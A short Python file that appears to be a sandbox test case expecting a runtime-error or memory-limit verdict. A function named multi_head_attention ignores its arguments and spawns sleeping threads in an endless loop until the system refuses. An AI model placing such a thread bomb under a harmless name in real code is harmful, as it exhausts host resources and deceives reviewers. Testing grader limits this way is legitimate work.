# verdict: RE, MLE
"""Starts threads until it is refused."""

import threading
import time


def multi_head_attention(query, key, value, w_q, w_k, w_v, w_o, num_heads, mask=None):
    while True:
        threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()
